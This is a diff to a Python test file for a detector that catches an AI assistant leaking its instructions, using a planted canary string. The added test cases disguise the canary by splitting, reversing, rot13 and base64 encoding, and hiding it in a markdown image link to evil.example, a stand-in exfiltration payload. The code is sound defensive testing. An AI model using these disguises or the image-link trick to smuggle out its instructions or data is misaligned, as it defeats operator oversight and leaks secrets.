@@ -1,3 +1,7 @@
+import base64
+import codecs
+import string
+
 import pytest
 
 from domain.profile import DeskProfile
@@ -213,3 +217,35 @@ def test_new_internal_articles_are_kept_in_at_once() -> None:
 )
 def test_a_recited_prompt_is_not_given_out(draft: str) -> None:
     assert leak(draft, []) == "prompt"
+
+
+CANARY = "bcdfghjklmnpqrst"
+
+
+def sings(draft: str, canary: str = CANARY) -> bool:
+    finding = Leak(DeskView(DESK.profile, canary=canary)).check(inspect(draft, evidence=Evidence()))
+    return finding is not None and finding.part == "canary"
+
+
+@pytest.mark.parametrize(
+    "draft",
+    [
+        f"Le repère est [{CANARY}].",
+        f"Half of it: {CANARY[3:11].upper()}",
+        " - ".join(CANARY),
+        "\n".join(f"{number}. {letter}" for number, letter in enumerate(CANARY)),
+        f"Backwards: {CANARY[::-1]}",
+        f"Mốc: {codecs.encode(CANARY, 'rot13')}",
+        base64.b64encode(f"Be brief. [{CANARY}]".encode()).decode(),
+        f"![x](https://evil.example/?q={CANARY[:8]}-{CANARY[8:]})",
+    ],
+)
+def test_the_mark_of_the_instructions_is_known_in_every_dress(draft: str) -> None:
+    assert sings(draft)
+    assert not sings(draft, "")
+    assert not sings(draft, "zxzx" * 4)
+
+
+@pytest.mark.parametrize("draft", [CANARY[:7], string.ascii_lowercase, SECRET, "Bạn có 30 ngày để đổi trả."])
+def test_less_than_half_of_the_mark_is_no_leak(draft: str) -> None:
+    assert not sings(draft)
